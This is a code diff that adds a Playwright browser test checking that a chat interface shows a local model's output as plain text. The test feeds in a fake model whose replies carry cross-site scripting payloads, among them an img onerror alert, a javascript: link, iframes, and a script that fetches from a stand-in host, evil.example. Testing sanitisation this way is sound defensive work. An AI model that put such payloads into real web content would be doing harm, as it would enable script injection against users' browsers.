@@ -9,7 +9,7 @@ from typing import TYPE_CHECKING
 import pytest
 
 from tests.browser.conftest import CHECKOUT, ENDLESS, OpenPage, Served, refresh, start, stop
-from tests.support import small_workspace
+from tests.support import small_workspace, tiny_gguf
 
 if TYPE_CHECKING:
     from playwright.sync_api import Browser, Locator, Page
@@ -141,6 +141,34 @@ def test_corpus_text_stays_text(extractive: Served, open_page: OpenPage) -> None
     done(page)
     assert page.locator("#desk img").count() == 0
     assert page.title() != "1"
+
+
+def test_what_a_model_writes_stays_text(small: Path, open_page: OpenPage, tmp_path: Path) -> None:
+    pytest.importorskip("llama_cpp", reason="llama-cpp-python is not installed")
+    root = tmp_path / "workspace"
+    shutil.copytree(small, root)
+    (root / "models").mkdir()
+    says = [
+        "62% 的製造商把隱私列為採用邊緣 AI 的首要好處 [1]。",
+        '<img src="https://evil.example/a" onerror="alert(1)"> ![b](https://evil.example/b) [1]。',
+        '[點我](javascript:alert) <script>fetch("https://evil.example/c")</script> [1]。',
+        '<a href="https://evil.example">d</a> <iframe src="https://evil.example/e"></iframe> [1]。',
+    ]
+    tiny_gguf.write(root / "models" / "hostile.gguf", says=says, context=8192)
+    served = start(root, "--engine", "llama")
+    try:
+        page = open_page(served)
+        page.on("dialog", lambda dialog: pytest.fail(dialog.message))
+        ask(page, PRIVACY)
+        turn = done(page)
+        expect(turn).to_contain_text("62% 的製造商")
+        # What is not supported is shown, marked, and as it was written.
+        expect(turn).to_contain_text('<script>fetch("https://evil.example/c")</script>')
+        for wrong in ("img", "script", "style", "iframe", "a[href*=evil]", "a[href^=javascript]", "[onerror]"):
+            expect(turn.locator(wrong)).to_have_count(0)
+        page.close()  # before its server goes
+    finally:
+        stop(served)
 
 
 def test_words_arrive_as_they_are_written_and_stop_acts(slow: Served, open_page: OpenPage) -> None:
